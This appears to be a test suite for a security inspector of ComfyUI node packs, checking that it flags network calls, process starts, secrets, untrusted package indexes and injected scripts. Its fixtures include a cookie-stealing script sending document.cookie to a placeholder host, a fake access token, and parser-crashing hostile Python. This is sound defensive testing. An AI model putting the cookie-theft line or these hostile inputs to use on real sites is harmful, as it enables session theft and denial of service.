import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { filesOfArchive, filesOfRecord } from '../archive/pack-files.ts'
import { openArchive } from '../archive/reader.ts'
import { sourceOfBytes } from '../archive/source.ts'
import { buildZip } from '../archive/zip-builder.test-support.ts'
import { isBlocking } from '../ground/finding.ts'
import { testParser } from '../python/parser.test-support.ts'
import { inspectPack } from './inspect.ts'
import { inspectionLimits } from './pack-texts.ts'

const parser = await testParser()

const pack = {
  'pyproject.toml':
    '[project]\nname = "blur"\nversion = "1.0.0"\ndependencies = ["git+https://example.org/a.git"]\n',
  'ReadMe.MD': '# Blur\n',
  '__init__.py': 'from .nodes import NODE_CLASS_MAPPINGS\nWEB_DIRECTORY = "./web"\n',
  'nodes.py': `
import requests, subprocess
from server import PromptServer
URL = "https://models.example.org/list"

@PromptServer.instance.routes.get("/blur/models")
async def models(request):
    return requests.get(URL).json()

class Blur:
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"
    CATEGORY = "image"
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"image": ("IMAGE",)}}
    def run(self, image):
        subprocess.run(["ffmpeg", "-i", "a.png"])

NODE_CLASS_MAPPINGS = {"Blur": Blur, "Able": Blur}
`,
  'requirements.txt': 'numpy\n--extra-index-url https://example.org/simple\n',
  'web/blur.js': 'export const a = 1\n',
  'lib/fast.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0),
}

describe('inspecting a pack', () => {
  it('requires what code installs, but not what a notebook does', async () => {
    const cells = [{ cell_type: 'code', source: ['!pip install opencv-python\n'] }]
    const files = {
      ...pack,
      'install.py': 'import os\nos.system("pip install onnxruntime")\n',
      'notebooks/example.ipynb': JSON.stringify({ cells }),
    }
    const { requirements } = await inspectPack(filesOfRecord(files), parser)
    assert.deepEqual(
      requirements.filter(({ kind }) => kind === 'script').map(({ file, text }) => [file, text]),
      [['install.py', 'onnxruntime']],
    )
  })

  it('returns the facts, the comfy-nodes, the findings and the capabilities', async () => {
    const inspection = await inspectPack(filesOfRecord(pack), parser)
    assert.equal(inspection.manifest?.name, 'blur')
    assert.deepEqual(inspection.readme, {
      path: 'ReadMe.MD',
      text: '# Blur\n',
      format: 'markdown',
      is_cut: false,
      letters: 4,
    })
    assert.deepEqual(
      inspection.comfy_nodes.map((node) => node.comfy_node_name),
      ['Able', 'Blur'],
    )
    assert.deepEqual(
      inspection.findings.map(({ rule, file_path, line_number }) => [rule, file_path, line_number]),
      [
        ['other-package-index', 'requirements.txt', 2],
        ['direct-dependency', 'pyproject.toml', undefined],
        ['native-binary', 'lib/fast.so', undefined],
        ['process-start', 'nodes.py', 18],
        ['unpinned-dependency', 'requirements.txt', 1],
      ],
    )
    assert.deepEqual(
      inspection.capabilities.map(({ kind, subject, evidence }) => [
        kind,
        subject,
        evidence[0]?.file,
        evidence[0]?.line,
      ]),
      [
        ['network', 'models.example.org', 'nodes.py', 8],
        ['process', 'ffmpeg', 'nodes.py', 18],
        ['native_code', 'lib/fast.so', 'lib/fast.so', 1],
        ['server_route', 'GET /blur/models', 'nodes.py', 6],
        ['frontend_script', './web', '__init__.py', 2],
      ],
    )
    assert.equal(inspection.archive.files, 7)
    assert.equal(inspection.archive.python_files, 2)
  })

  it('gives the same result for any order and location of the files', async () => {
    const reversed = Object.fromEntries(Object.entries(pack).reverse())
    const zip = buildZip({ entries: Object.entries(pack).map(([name, data]) => ({ name, data })) })
    const archive = await openArchive(sourceOfBytes(zip))
    const inspections = await Promise.all(
      [filesOfRecord(pack), filesOfRecord(reversed), filesOfArchive(archive)].map((files) =>
        inspectPack(files, parser),
      ),
    )
    const [first, ...others] = inspections.map((inspection) => JSON.stringify(inspection))
    for (const other of others) assert.equal(other, first)
  })

  it('returns an inspection for an empty pack, not an error', async () => {
    const { manifest, readme, findings, undecided } = await inspectPack(filesOfRecord({}), parser)
    assert.equal(manifest, null)
    assert.equal(readme, null)
    assert.deepEqual(
      findings.map((finding) => finding.rule),
      ['manifest-missing'],
    )
    assert.equal(undecided.length, 1)
  })

  it('holds back Python that is too large to read only if it can run something', async () => {
    const limits = { ...inspectionLimits, pythonFileBytes: 10 }
    const severityOf = async (code: string) => {
      const { findings } = await inspectPack(filesOfRecord({ '__init__.py': code }), parser, { limits })
      return findings.find((each) => each.rule === 'python-not-read')?.severity
    }
    assert.equal(await severityOf('x = 1234567890\n'), 'medium')
    assert.equal(await severityOf('eval("1234567890")\n'), 'high')
  })

  it('truncates a long README between characters, and marks it', async () => {
    const limits = { ...inspectionLimits, readmeBytes: 5 }
    const { readme } = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, { limits })
    assert.deepEqual(readme, {
      path: 'README.md',
      text: 'aaaä',
      format: 'markdown',
      is_cut: true,
      letters: 4,
    })
    const cut = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, {
      limits: { ...limits, readmeBytes: 4 },
    })
    assert.equal(cut.readme?.text, 'aaa')
  })
})

describe('progress reports of an inspection', () => {
  const pack = {
    '__init__.py': 'from .nodes import *\nfrom .tools import run\nrun()\n',
    'nodes.py': 'NODE_CLASS_MAPPINGS = {}\n',
    'tools.py': 'import os\ndef run():\n    os.system("ls")\n',
    'web/page.js': 'eval(name)\n',
    'README.md': 'Hello',
    'requirements.txt': 'numpy\n',
  }
  const stepsOf = async (files: Record<string, string>) => {
    const steps: string[] = []
    await inspectPack(filesOfRecord(files), parser, {
      onFile: (path, stage) => steps.push(`${stage} ${path}`),
    })
    return steps
  }

  it('names each file before it is read, followed and searched', async () => {
    const steps = await stepsOf(pack)
    for (const path of Object.keys(pack)) assert.ok(steps.includes(`read ${path}`), path)
    for (const path of ['tools.py', 'web/page.js'])
      for (const stage of ['follow', 'search'])
        assert.ok(steps.includes(`${stage} ${path}`), `${stage} ${path}`)
  })

  it('returns to the importing file after an import and after a call', async () => {
    const evaluated = (await stepsOf(pack)).filter((step) => step.startsWith('evaluate'))
    assert.deepEqual(
      evaluated.map((step) => step.slice('evaluate '.length)),
      ['__init__.py', 'nodes.py', '__init__.py', 'tools.py', '__init__.py', 'tools.py', '__init__.py'],
    )
  })

  it('reports nothing while the work stays with the same file', async () => {
    const steps = await stepsOf(pack)
    assert.ok(steps.every((step, i) => step !== steps[i - 1]))
  })
})

describe('inspecting a pack', () => {
  it('terminates on hostile Python', async () => {
    const many = (line: string, count: number) => line.repeat(count)
    const texts = [
      many('exec(', 3000),
      many('if x:\n ', 3000),
      `${many('a = exec(a)\n', 3000)}`,
      many('lambda: ', 5000),
      `"""${many('x', 100_000)}`,
      many('[', 100_000),
      many('urlretrieve(', 20_000),
      '\u0000\uFFFF\uD800',
    ]
    for (const text of texts) {
      const inspection = await inspectPack(filesOfRecord({ '__init__.py': text }), parser)
      assert.ok(inspection.undecided.length > 0)
    }
  })

  it('does per-file work once, not for each function', async () => {
    const body =
      '    x = 1  # nothing that is worth reading, in more letters than a short function has\n'.repeat(6)
    const indices = Array.from({ length: 300 }, (_, i) => i)
    const functions = indices.map((i) => `def f${i}(a):\n${body}`).join('')
    const calls = indices.map((i) => `f${i}(os.system)\n`).join('')
    const subject = `match [\n${'#'.repeat(1_900)}\n`
    const text = `import os\n${functions}${calls}"""\n${subject.repeat(700)}"""\n`
    const rulesFor = async (source: string) => {
      const { findings } = await inspectPack(filesOfRecord({ '__init__.py': source }), parser)
      return findings.map(({ rule, severity }) => `${severity} ${rule}`)
    }
    assert.deepEqual(await rulesFor(text), ['medium manifest-missing'])
    const tooMuch = `${text}"""\n${'match [\n'.repeat(60_000)}"""\n`
    assert.deepEqual(await rulesFor(tooMuch), ['high python-not-read', 'medium manifest-missing'])
  })

  it('reports files that git obeys where they are too large to read', async () => {
    for (const name of ['.gitattributes', '.gitmodules', 'lib/.gitattributes']) {
      const text = `${'# long\n'.repeat(80_000)}*.py working-tree-encoding=SHIFT_JIS\n`
      const { findings } = await inspectPack(filesOfRecord({ '__init__.py': '', [name]: text }), parser)
      const found = findings.filter(({ file_path }) => file_path === name)
      assert.deepEqual(
        found.map(({ rule }) => rule),
        ['python-not-read'],
      )
    }
  })

  it('finds secrets in files of other encodings', async () => {
    const token = `${'hf'}_q7RwT2yUp9SdF4gHjK6lZx3CvB8nM1aEo5`
    const utf16 = new Uint8Array(Buffer.from(`\ufeffkey = "${token}"\n`, 'utf16le'))
    const files = { '__init__.py': '', 'a.txt': utf16, 'b.ini': utf16, other: utf16, 'c.pyc2': `\0${token}` }
    const { findings } = await inspectPack(filesOfRecord(files), parser)
    const found = findings.filter(({ rule }) => rule === 'committed-secret')
    assert.deepEqual(found.map(({ file_path }) => file_path).sort(), ['a.txt', 'b.ini', 'c.pyc2', 'other'])
  })

  it('leaves no null characters or unpaired surrogates in any text', async () => {
    const odd = '"a\\x00b\\ud800"'
    const inspection = await inspectPack(
      filesOfRecord({
        '__init__.py': `import os, subprocess
class A:
    """\\x00"""
    RETURN_TYPES = (${odd},)
    CATEGORY = ${odd}
    @classmethod
    def INPUT_TYPES(cls): return {"required": {${odd}: ("INT", {"tooltip": ${odd}})}}
subprocess.run([${odd}])
os.getenv(${odd})
NODE_CLASS_MAPPINGS = {"A": A, ${odd}: A, "\\ud800": A}
`,
        'pyproject.toml': '[project]\nname = "a\\u0000"\n[project.urls]\n"a\\u0000" = "b"\n',
        'locales/fr/nodeDefs.json':
          '{"A": {"display_name": "\\u0000", "inputs": {"\\ud800": {"name": "\\u0000"}}}}',
      }),
      parser,
    )
    const text = JSON.stringify({ ...inspection, readme: null })
    assert.doesNotMatch(text.replaceAll('\\\\', ''), /\\u0000|\\ud[89a-f]/i)
    assert.deepEqual(
      inspection.comfy_nodes.map((node) => node.comfy_node_name),
      ['A'],
    )
  })

  it('reads a pack with a file that Python refuses and that mentions the tool', async () => {
    for (const mention of ['from nodes import NODE_CLASS_MAPPINGS', 'NodeReplace', 'import comfy.sd1_clip']) {
      const files = { ...pack, 'unused.py': `${mention}\nx = (1，2)\n` }
      const { comfy_nodes } = await inspectPack(filesOfRecord(files), parser)
      assert.deepEqual(
        comfy_nodes.map(({ comfy_node_name }) => comfy_node_name),
        ['Able', 'Blur'],
      )
    }
  })

  it('gives no meaning to names that every JavaScript object has', async () => {
    for (const name of Object.getOwnPropertyNames(Object.prototype)) {
      const files = {
        '__init__.py': `key = "a".${name}("b")\nparts = key.split("a")\nNODE_CLASS_MAPPINGS = {key: object}\n`,
        'web/a.js': `eval(window["a".${name}("b")])`,
        'requirements.txt': `${name}\n`,
        'pyproject.toml': `[project]\nname = "a"\nreadme = {file = "a.md", content-type = "${name}"}\n`,
        'a.md': '# A\n',
      }
      const { comfy_nodes, traits, readme } = await inspectPack(filesOfRecord(files), parser)
      assert.deepEqual([comfy_nodes, traits.os, traits.accelerators], [[], [], []], name)
      assert.equal(readme?.format, 'markdown', name)
    }
  })

  it('reports scripts of a page that nests too deeply, and a script behind many others', async () => {
    const theft = '<script>fetch("https://example.test/?c=" + document.cookie)</script>'
    const { findings } = await inspectPack(
      filesOfRecord({
        'web/deep.html': `${'<div>'.repeat(100_000)}${'</b>'.repeat(100_000)}${theft}`,
        'web/many.html': `${'<script>let a</script>\n'.repeat(1_000)}<script>let b; ${theft.slice(8)}`,
      }),
      parser,
    )
    assert.deepEqual(
      findings.filter(isBlocking).map(({ rule, file_path }) => `${rule} ${file_path}`),
      ['python-not-read web/deep.html', 'python-not-read web/many.html'],
    )
  })

  it('allows a page that the pack does not serve to load a visitor counter', async () => {
    const page = '<script src="https://example.test/count.js"></script>'
    const files = { '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.html': page, 'docs/a.html': page }
    const { findings } = await inspectPack(filesOfRecord(files), parser)
    assert.deepEqual(
      findings
        .filter(({ rule }) => rule === 'downloaded-script')
        .map(({ severity, file_path }) => `${severity} ${file_path}`),
      ['high web/a.html', 'medium docs/a.html'],
    )
  })

  it('reads requirements from the files of a pack and from what its install script installs', async () => {
    const files = {
      '__init__.py': '',
      'pyproject.toml':
        '[project]\nname = "a"\nversion = "1.0.0"\nrequires-python = ">=3.10"\ndependencies = ["numpy>=2"]\n',
      'requirements.txt': 'numpy>=2\npillow\n',
      'install.py':
        'import subprocess, sys\ndef main():\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "onnxruntime-gpu==1.20"])\nmain()\n',
    }
    const { requirements } = await inspectPack(filesOfRecord(files), parser)
    assert.deepEqual(
      requirements.map(({ file, line, kind, text }) => `${file}:${line} ${kind} ${text}`),
      [
        'pyproject.toml:4 python >=3.10',
        'pyproject.toml:5 stated numpy>=2',
        'requirements.txt:2 stated pillow',
        'install.py:3 script onnxruntime-gpu==1.20',
      ],
    )
  })
})
